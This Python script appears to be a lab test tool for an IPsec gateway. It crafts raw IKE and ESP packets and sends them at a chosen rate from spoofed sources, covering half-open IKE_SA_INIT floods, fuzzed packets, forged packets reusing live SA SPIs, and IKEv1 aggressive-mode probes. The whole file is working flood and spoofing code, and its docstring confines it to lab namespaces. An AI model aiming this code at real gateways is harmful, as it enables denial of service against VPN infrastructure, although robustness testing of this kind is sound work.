# SPDX-License-Identifier: Apache-2.0
"""What strangers may send to a gateway: packets made with struct, fast enough to flood.  As a program, inside a
namespace: `attack.py KIND SRC DST [--spi …]` sends COUNT packets at RATE a second with forged sources.

Only ever in the namespaces of a lab.
"""
import argparse
import os
import random
import socket
import struct
import time

SA_INIT, AUTH, CHILD, INFO = 34, 35, 36, 37
SK, SKF, NONCE, KE, SA, NOTIFY = 46, 53, 40, 34, 33, 41


def udp(src, dst, sport, dport, data):
    """An IP packet; the kernel fills in the header's checksum, UDP needs none over IPv4."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(data), 0, 0, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    return head + struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data


def ike(spi_i, spi_r, exchange, flags, msgid, first, body):
    return struct.pack("!8s8sBBBBII", spi_i, spi_r, first, 0x20, exchange, flags, msgid, 28 + len(body)) + body


def payload(next_, body):
    return struct.pack("!BBH", next_, 0, 4 + len(body)) + body


def sa_init(spi_i=None):
    """A sound IKE_SA_INIT request: AES-CBC-256, SHA-256, group 14."""
    def transform(last, kind, ident, attr=b""):
        return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attr), kind, 0, ident) + attr
    ts = transform(False, 1, 12, struct.pack("!HH", 0x800E, 256)) + transform(False, 2, 5) + \
        transform(False, 3, 12) + transform(True, 4, 14)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(ts), 1, 1, 0, 4) + ts
    ke = struct.pack("!HH", 14, 0) + b"\x01" + os.urandom(255)
    body = payload(KE, proposal) + payload(NONCE, ke) + payload(0, os.urandom(32))
    return ike(spi_i or os.urandom(8), bytes(8), SA_INIT, 0x08, 0, SA, body)


def aggressive():
    """IKEv1 aggressive mode (RFC 2409 5): SA, KE, nonce, and the identity "NAME.example"."""
    ident = struct.pack("!BBH", 2, 17, 500) + os.urandom(6).hex().encode() + b".example"
    body = payload(4, bytes(40)) + payload(10, os.urandom(128)) + payload(5, os.urandom(16)) + payload(0, ident)
    return struct.pack("!8s8sBBBBII", os.urandom(8), bytes(8), 1, 0x10, 4, 0, 0, 28 + len(body)) + body


def stranger():
    """A source in 100.64.0.0/10, which no lab uses."""
    return f"100.{random.randrange(64, 128)}.{random.randrange(256)}.{random.randrange(1, 255)}"


def esp(spi, seq, size=96):
    return struct.pack("!II", spi, seq) + os.urandom(size)


def packets(kind, src, dst, spi_i=bytes(8), spi_r=bytes(8), esp_spi=0):
    """An endless sequence of one kind."""
    while True:
        if kind == "init":  # half-open SAs from everywhere
            yield udp(stranger(), dst, 500, 500, sa_init())
        elif kind == "init-peer":  # and from the peer's own address
            yield udp(src, dst, 500, 500, sa_init())
        elif kind == "noise":  # nothing at all, on both ports
            port = random.choice((500, 4500))
            yield udp(random.choice((src, stranger())), dst, port, port, os.urandom(random.randrange(0, 600)))
        elif kind == "mutant":  # a sound IKE_SA_INIT with bytes changed or its end missing
            b = bytearray(sa_init())
            for _ in range(random.randrange(1, 6)):
                b[random.randrange(len(b))] = random.randrange(256)
            yield udp(src, dst, 500, 500, bytes(b[:random.choice((len(b), random.randrange(1, len(b))))]))
        elif kind == "forged-ike":  # the established SA's SPIs, nobody's keys; each exchange, as request and answer
            flags, body = random.choice((0x00, 0x08, 0x20, 0x28)), os.urandom(random.choice((16, 64, 200)))
            first = random.choice((SK, SKF))
            if first == SKF:
                body = struct.pack("!HH", random.randrange(1, 5), random.randrange(1, 5)) + body
            yield udp(src, dst, 4500, 4500, bytes(4) + ike(spi_i, spi_r, random.choice((AUTH, CHILD, INFO)), flags,
                                                          random.randrange(6), first, payload(0, body)))
        elif kind == "forged-esp":  # the Child SA's SPI, sequence numbers ahead, nobody's key
            yield udp(src, dst, 4500, 4500, esp(esp_spi, random.randrange(1, 1 << 32), 4 * random.randrange(6, 80)))
        elif kind == "ikev1":  # aggressive mode, an identity in clear, from everywhere and from the peer's address
            yield udp(random.choice((src, stranger())), dst, 500, 500, aggressive())
        elif kind == "unknown-esp":
            yield udp(random.choice((src, stranger())), dst, 4500, 4500, esp(random.randrange(256, 1 << 32), 1))
        else:
            raise ValueError(kind)


KINDS = ("init", "init-peer", "noise", "mutant", "forged-ike", "forged-esp", "unknown-esp", "ikev1")


def send(gen, count, rate):
    """In small bursts, so that a slow machine keeps the rate."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    while sent < count:
        due = min(count, int((time.monotonic() - start) * rate) + 1)
        # No catching up beyond a burst: what a ring cannot hold says nothing about the one who reads it.
        for _ in range(min(due - sent, 32)):
            p = next(gen)
            s.sendto(p, (socket.inet_ntoa(p[16:20]), 0))
            sent += 1
        time.sleep(0.002)
    return sent


def main():
    a = argparse.ArgumentParser()
    a.add_argument("kind", choices=KINDS)
    a.add_argument("src")
    a.add_argument("dst")
    a.add_argument("--spi-i", type=bytes.fromhex, default=bytes(8))
    a.add_argument("--spi-r", type=bytes.fromhex, default=bytes(8))
    a.add_argument("--esp-spi", type=int, default=0)
    a.add_argument("--count", type=int, default=1000)
    a.add_argument("--rate", type=int, default=2000)
    a = a.parse_args()
    print(send(packets(a.kind, a.src, a.dst, a.spi_i, a.spi_r, a.esp_spi), a.count, a.rate))


if __name__ == "__main__":
    main()
